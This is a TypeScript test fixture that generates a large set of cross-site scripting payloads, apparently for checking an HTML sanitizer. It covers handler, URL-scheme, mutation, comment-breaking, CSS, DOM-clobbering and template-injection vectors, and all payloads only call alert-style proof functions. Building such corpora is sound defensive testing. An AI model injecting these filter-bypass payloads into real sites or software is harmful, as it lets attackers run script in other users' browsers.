/**
 * Returns markup that tries to run a script, for each class of attack. A payload that succeeds calls `alert`, `confirm`, `prompt` or
 * `print`, by itself or when its remains are pressed.
 */
export function xssPayloads(): string[] {
  return [
    ...new Set([
      ...handlers(),
      ...schemes(),
      ...frames(),
      ...foreign(),
      ...mutations(),
      ...broken(),
      ...styles(),
      ...clobbering(),
      ...templates(),
      ...disguises(),
    ]),
  ];
}

const calls = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'print()',
  'top.alert(1)',
  'window["al"+"ert"](1)',
  'alert`1`',
];
const call = (at: number): string => calls[at % calls.length] ?? 'alert(1)';

/** Elements whose event handlers run without a user, in many spellings. */
function handlers(): string[] {
  const loads = [
    '<img src=x onerror="$">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="$">',
    '<svg onload="$"></svg>',
    '<svg><image href="x" onerror="$"></image></svg>',
    '<video src=x onerror="$"></video>',
    '<video><source src=x onerror="$"></video>',
    '<audio src=x onerror="$"></audio>',
    '<input autofocus onfocus="$">',
    '<select autofocus onfocus="$"></select>',
    '<textarea autofocus onfocus="$"></textarea>',
    '<button autofocus onfocus="$">x</button>',
    '<a href="#x" tabindex=0 autofocus onfocus="$">x</a>',
    '<p contenteditable autofocus onfocus="$">x</p>',
    '<details open ontoggle="$"><summary>x</summary>x</details>',
    '<iframe onload="$"></iframe>',
    '<object data="x:" onerror="$"></object>',
    '<embed src="x:" onerror="$">',
    '<link rel=stylesheet href="x:" onerror="$">',
    '<style onload="$">p{}</style>',
    '<script src="x:" onerror="$"></script>',
    '<marquee onstart="$">x</marquee>',
    '<svg><animate onbegin="$" attributeName=x dur=1s></animate></svg>',
    '<svg><set onbegin="$" attributeName=x></set></svg>',
    '<svg><animateTransform onbegin="$" attributeName=transform dur=1s></animateTransform></svg>',
    '<body onload="$">',
    '<img srcset="x 1x" onerror="$">',
    '<picture><source srcset=x><img onerror="$"></picture>',
    '<image src=x onerror="$">',
    '<p style="animation: x 1s" onanimationstart="$">x</p>',
    '<p style="transition: color 1s" ontransitionend="$">x</p>',
    '<span onclick="$" onpointerdown="$" onmouseover="$">press</span>',
    '<p onclick="$">press</p>',
    '<strong onmouseenter="$" onclick="$">press</strong>',
    '<ol onclick="$"><li onclick="$">press</li></ol>',
    '<a href="https://e.example/" onclick="$">press</a>',
    '<pre onpointerover="$" onclick="$"><code onclick="$">press</code></pre>',
  ];
  return loads.flatMap((load, at) => [
    load.replaceAll('$', call(at)),
    load
      .replaceAll('$', call(at + 3))
      .replace(/ on(\w)/g, (_, letter: string) => `/On${letter.toUpperCase()}`),
    load.replaceAll('$', entities(call(at + 1))),
  ]);
}

const entities = (text: string): string => [...text].map((each) => `&#${each.charCodeAt(0)};`).join('');
const hexEntities = (text: string): string =>
  [...text].map((each) => `&#x000${each.charCodeAt(0).toString(16)}`).join(';');

/** Script URLs, in spellings that a browser and a poor filter read differently. */
function schemes(): string[] {
  const script = calls.map((each) => `javascript:${each}`);
  const plain = script[0] ?? '';
  const spelled = [
    ...script,
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u001fjavascript:alert(1)',
    '\njavascript:alert(1)',
    'java\nscript:alert(1)',
    'java\tscript:alert(1)',
    'java\rscript:alert(1)',
    'javascript\n:alert(1)',
    'java&#9;script:alert(1)',
    'java&Tab;script&colon;alert&lpar;1&rpar;',
    'java&NewLine;script:alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3a;alert(1)',
    'javascript&#0000058alert(1)',
    entities(plain),
    hexEntities(plain),
    'javascript://%0aalert(1)',
    'javascript://example.org/%0dalert(1)',
    'javascript:/*https://*/alert(1)',
    'javascript:"<img src=x onerror=alert(1)>"',
    'javascript:void(0)?0:alert(1)',
    'javascript:alert(1)//https://example.org',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'blob:https://example.org/alert(1)',
    'feed:javascript:alert(1)',
    'view-source:javascript:alert(1)',
    'jar:javascript:alert(1)!/',
    'http:javascript:alert(1)',
    'https:alert(1)',
    '//javascript:alert(1)',
    '\\\\javascript:alert(1)',
    '/u/../javascript:alert(1)',
    '/u/01980f2a-6f00-7a11-8c22-0123456789ab/../../javascript:alert(1)',
    'mailto:javascript:alert(1)',
  ];
  return spelled.flatMap((href, at) => {
    const quoted = href.replaceAll('"', '&quot;');
    const link = `<a href="${quoted}">press</a>`;
    const others = [
      `<a class="mention" href="${quoted}">press</a>`,
      `<svg><a xlink:href="${quoted}"><text y="20">press</text></a></svg>`,
      `<form action="${quoted}"><button>press</button></form>`,
      `<button form=f formaction="${quoted}">press</button><form id=f></form>`,
      `<math><mtext href="${quoted}">press</mtext></math>`,
      `<area href="${quoted}"><a href='${href.replaceAll("'", '&#39;')}'>press</a>`,
      `<iframe src="${quoted}"></iframe>`,
      `<object data="${quoted}"></object>`,
    ];
    return [link, others[at % others.length] ?? link];
  });
}

function frames(): string[] {
  return [
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
    '<iframe srcdoc="<svg onload=parent.confirm(1)>"></iframe>',
    '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
    '<iframe><img src=x onerror=alert(1)></iframe>',
    '<iframe><iframe><script>alert(1)</script></iframe></iframe>',
    '<frameset onload="alert(1)"><frame src="javascript:parent.alert(1)"></frameset>',
    '<object><param name=x><img src=x onerror=alert(1)></object>',
    '<base href="javascript:alert(1)//"><a href="/x">press</a>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<portal src="javascript:alert(1)"></portal>',
    '<script>alert(1)</script>',
    '<script type=module>alert(1)</script>',
    '<script>alert(1)',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<noframes><img src=x onerror=alert(1)></noframes>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing><img src=x onerror=alert(1)>',
  ];
}

/** SVG and MathML, with handlers, links and islands of HTML inside. */
function foreign(): string[] {
  const inside = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<style><img src=x onerror=alert(1)></style>',
    '<p><img src=x onerror=confirm(1)></p>',
  ];
  const around = [
    '<svg><foreignObject>$</foreignObject></svg>',
    '<svg><desc>$</desc></svg>',
    '<svg><title>$</title></svg>',
    '<svg><p>$</p></svg>',
    '<svg></p>$</svg>',
    '<math><mtext>$</mtext></math>',
    '<math><mi>$</mi></math>',
    '<math><annotation-xml encoding="text/html">$</annotation-xml></math>',
    '<math><mglyph>$</mglyph></math>',
    '<math><mtext><table><mglyph>$</mglyph></table></mtext></math>',
  ];
  return around.flatMap((each) => inside.map((part) => each.replace('$', part)));
}

/** Mutation XSS: markup that changes its meaning when it is parsed and serialised. */
function mutations(): string[] {
  const shut = [
    'style',
    'title',
    'textarea',
    'noscript',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'template',
    'script',
  ];
  return [
    ...shut.flatMap((tag) => [
      `<${tag}><a title="</${tag}><img src=x onerror=alert(1)>"></${tag}>`,
      `<svg><${tag}><a title="</${tag}><img src=x onerror=alert(1)>">`,
      `<math><${tag}><img src="</${tag}><img src=x onerror=confirm(1)>">`,
      `<${tag}></${tag}/><img src=x onerror=alert(1)></${tag}>`,
      `<p><${tag}></p><img src=x onerror=prompt(1)></${tag}>`,
    ]),
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<svg><style><!--</style><a title="--><img src=x onerror=alert(1)>">',
    '<table><td><svg><desc><td></desc><style><img src=x onerror=alert(1)></style>',
    '<select><template><svg><style></select><img src=x onerror=alert(1)>',
    '<p><table><p><img src=x onerror=alert(1)></table></p>',
    '<a href="x"><a href="javascript:alert(1)">press</a></a>',
    '<form id=a><form id=b><input onfocus=alert(1) autofocus></form></form>',
    '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
    `${'<b>'.repeat(600)}<img src=x onerror=alert(1)>`,
    `${'<svg><p>'.repeat(300)}<style><img src=x onerror=alert(1)>`,
  ];
}

/** Quotes, comments and tags that end somewhere else than they seem to. */
function broken(): string[] {
  const image = '<img src=x onerror=alert(1)>';
  return [
    `<!--><svg onload=alert(1)>-->`,
    `<!--->${image}-->`,
    `<!-- --!>${image}-->`,
    `<!-->${image}<!-- -->`,
    `<![CDATA[>${image}]]>`,
    `<?xml >${image}?>`,
    `<!doctype >${image}>`,
    `<p title='>${image}'>${image}`,
    `<p title="a\u0000">${image}`,
    `<p title=">" ${image.slice(5)}`,
    `<a href="https://e.example/\u201d onclick="alert(1)">press</a>`,
    `<a href=https://e.example/ onclick=alert(1)>press</a>`,
    `<a href='https://e.example/' 'onclick=alert(1)>press</a>`,
    `<a href="https://e.example/&quot; onclick=&quot;alert(1)">press</a>`,
    `<a href="https://e.example/"onclick="alert(1)">press</a>`,
    `<<p>script>alert(1)<</p>/script>`,
    `<img """><script>alert(1)</script>">`,
    `<img src="x\` onerror=alert(1)">${image}`,
    `<img src=x onerror\u000c=alert(1)>`,
    `<img\u000bsrc=x onerror=alert(1)>${image}`,
    `<img/src=x/onerror=alert(1)>`,
    `<img src=x onerror=alert(1) `,
    `<img src=x:x onerror=alert(1)//`,
    `< img src=x onerror=alert(1)>${image}`,
    `<%00img src=x onerror=alert(1)>${image}`,
    `<p/><img src=x onerror=alert(1)/>`,
    `</p onclick=alert(1)>${image}`,
    `</${image}`,
    `&lt;img src=x onerror=alert(1)&gt;${image}`,
    `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;${image}`,
    `\ufeff${image}`,
    `\u2028<script>\u2028alert(1)\u2028</script>${image}`,
  ];
}

/** Styles that would run, load or cover. */
function styles(): string[] {
  const image = '<img src=x onerror=alert(1)>';
  return [
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background: url(javascript:alert(1))">x</p>',
    '<span style="color: red; background-image: url(x); -moz-binding: url(x#y)" onclick="alert(1)">press</span>',
    '<span style="behavior: url(x.htc)">x</span>',
    `<span style="color: red&quot;>${image}">${image}</span>`,
    `<span style="color: red;}</style>${image}">${image}</span>`,
    '<span style="color: \\72 ed; position: fixed; inset: 0" onmouseover="alert(1)" onclick="alert(1)">press</span>',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">x</p>',
    '<style>@import "javascript:alert(1)";</style><style onload=alert(1)></style>',
    '<link rel=stylesheet href="data:text/css,p{color:red}" onload=alert(1)>',
    '<p style="text-align: center; x: \'"><img src=x onerror=alert(1)>\'">x</p>',
    '<div style="x:</p><script>alert(1)</script>"><svg onload=alert(1)></div>',
  ];
}

/** DOM clobbering: names that replace properties which scripts look up. */
function clobbering(): string[] {
  const names = [
    'body',
    'cookie',
    'location',
    'attributes',
    'childNodes',
    'parentNode',
    'getElementById',
    'nodeName',
  ];
  return names.flatMap((name) => [
    `<form id="${name}"><input name="${name}"><input name="attributes"><img src=x onerror=alert(1)></form>`,
    `<a id="${name}" name="${name}" href="javascript:alert(1)">press</a><svg onload=alert(1)>`,
  ]);
}

function templates(): string[] {
  return [
    '<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>',
    '<template shadowrootmode=open><img src=x onerror=alert(1)></template><svg onload=alert(1)>',
    '<template><script>alert(1)</script></template><style onload=alert(1)></style>',
    '<slot name=x onslotchange=alert(1)><img src=x onerror=alert(1)></slot>',
    '<x-y onclick=alert(1)><img src=x onerror=alert(1)></x-y>',
    '<p is="x-y" onclick="alert(1)">press</p>',
    '<dialog open onclose=alert(1)><form method=dialog><button>press</button></form></dialog>',
    '<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p onclick=alert(1)>press</button>',
    '{{constructor.constructor("alert(1)")()}}<img src=x onerror=alert(1)>',
    '${alert(1)}<img src=x onerror=alert(1)>',
  ];
}

/** Attacks inside the markup of legitimate documents. */
function disguises(): string[] {
  const clothes = [
    '<p style="text-align: center;">$</p>',
    '<ol><li data-list="bullet">$</li></ol>',
    '<div class="ql-code-block-container"><div class="ql-code-block">$</div></div>',
    '<pre class="ql-syntax"><code class="language-html">$</code></pre>',
    '<blockquote><p><span style="color: rgb(230, 0, 0);">$</span></p></blockquote>',
    '<a href="https://e.example/" rel="noopener" target="_blank">$</a>',
    '<div><div><span>$</span></div>x</div>',
    '<table><tr><td>$</td></tr></table>',
  ];
  const inside = [
    '<img src=x onerror=alert(1)>',
    '<svg onload=prompt(1)>',
    '<a href="javascript:alert(1)">press</a>',
    '<code class="language-x&quot; onclick=&quot;alert(1)" onclick="alert(1)">press</code>',
    '<span class="ql-color-red;alert(1)" onclick="confirm(1)">press</span>',
  ];
  return clothes.flatMap((each) => inside.map((part) => each.replace('$', part)));
}
